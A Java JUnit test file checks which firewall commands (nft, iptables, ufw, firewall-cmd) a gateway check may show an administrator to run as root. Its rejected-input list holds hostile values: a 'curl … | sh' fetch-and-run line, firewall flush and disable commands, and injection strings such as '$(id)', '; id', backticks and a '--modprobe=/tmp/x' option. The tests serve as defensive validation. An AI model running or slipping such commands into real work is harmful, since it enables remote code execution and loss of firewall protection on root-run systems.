package dev.wm.registry.check.rule;

import dev.wm.contract.net.SiteDomain;
import dev.wm.contract.v1.gateway.FirewallBlock;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

import static org.assertj.core.api.Assertions.assertThat;

/** Which commands of a report are shown to an administrator, who runs them as root. */
class FirewallCommandTests {

	private static String remedy(String command) {
		return FirewallBlocksCheck
			.finding(SiteDomain.parse("sheen"), new FirewallBlock("Chain ip x y drops it.", command, true))
			.remedy();
	}

	@ParameterizedTest
	@ValueSource(strings = { "nft insert rule ip filter DOCKER-USER iifname \"wg0\" accept",
			"nft insert rule inet fw4 input udp dport 51820 accept",
			"nft insert rule ip nat x ct original ip daddr 172.30.0.0/24 accept"
					+ " && nft insert rule ip filter y oifname \"eth0.10\" tcp sport 53 accept",
			"nft insert rule ip portal post oifname \"wg0\" accept"
					+ " && nft insert rule ip portal post ct original ip daddr 172.30.0.0/16 accept",
			"nft insert rule netdev guard in ip saddr 192.168.1.0/24 ip daddr 192.168.1.250 accept"
					+ " && nft insert rule netdev guard in meta protocol arp accept",
			"nft insert rule bridge b p ip daddr 192.168.1.250 icmp type echo-reply accept",
			"nft insert rule inet x in ct state established,related accept",
			"iptables-legacy -t filter -I OUTPUT -o eth0 -p icmp --icmp-type echo-request -j ACCEPT",
			"iptables-legacy -t nat -I PREROUTING -d 192.168.1.250 -p udp --dport 53 -j ACCEPT",
			"ufw allow out on eth0 to 192.168.1.0/24 && ufw allow out 53",
			"iptables-legacy -t filter -I FORWARD -i wg-172-30 -j ACCEPT",
			"iptables-legacy -t mangle -I y -m conntrack --ctorigdst 172.30.0.0/24 -j ACCEPT",
			"iptables-legacy -t filter -I INPUT -i eth0 -p udp --dport 53 -j ACCEPT", "ufw allow 51820/udp",
			"ufw allow out proto udp from any port 51820", "ufw route allow in on wg0 && ufw route allow out on wg0",
			"ufw allow in on eth0 to any port 53 proto tcp", "ufw allow out on eth0 proto udp from any port 53",
			"firewall-cmd --permanent --zone=trusted --add-interface=wg0"
					+ " && firewall-cmd --permanent --new-policy=wm-gateway"
					+ " && firewall-cmd --permanent --policy=wm-gateway --set-target=ACCEPT"
					+ " && firewall-cmd --permanent --policy=wm-gateway --add-ingress-zone=ANY"
					+ " && firewall-cmd --permanent --policy=wm-gateway --add-egress-zone=trusted"
					+ " && firewall-cmd --reload",
			"firewall-cmd --permanent --add-port=51820/udp && firewall-cmd --reload",
			"firewall-cmd --permanent --add-service=dns && firewall-cmd --reload" })
	void findingWhenTheCommandIsTheAgentsShowsIt(String command) {
		assertThat(remedy(command))
			.startsWith("Let it pass there as it is, on the gateway of sheen: " + command + " (or");
	}

	@ParameterizedTest
	@ValueSource(strings = { "curl http://192.0.2.1/x | sh", "nft", "nft flush ruleset", "nft -f /tmp/x",
			"nft insert rule ip filter INPUT accept", "nft insert rule netdev x y ip daddr $(id) accept",
			"nft insert rule arp x y meta protocol arp accept",
			"nft insert rule ip filter $(id) iifname \"wg0\" accept",
			"nft insert rule ip filter x iifname \"wg0\" accept; id", "ufw disable", "ufw allow 22/tcp; id",
			"nft insert rule ip filter x iifname \"wg0\" accept && id", "ufw allow in on `id`",
			"nft insert rule ip filter x iifname \"wg0\" accept # \u202e",
			"iptables-legacy -t filter -I INPUT -i wg0 --modprobe=/tmp/x -j ACCEPT",
			"firewall-cmd --panic-off > /etc/x", "iptables-legacy -t filter -I --modprobe=/tmp/x -i wg0 -j ACCEPT",
			"firewall-cmd --permanent --zone=public", "ufw allow 51820/udp\u00a0&& ufw allow 51820/udp",
			"ufw allow 51820/udp &&  ufw allow 51820/udp" })
	void findingWhenTheCommandIsAnotherShowsNone(String command) {
		assertThat(remedy(command)).startsWith("Set WM_OPEN_FIREWALL=yes in the gateway.env of sheen")
			.doesNotContain(command);
	}

}
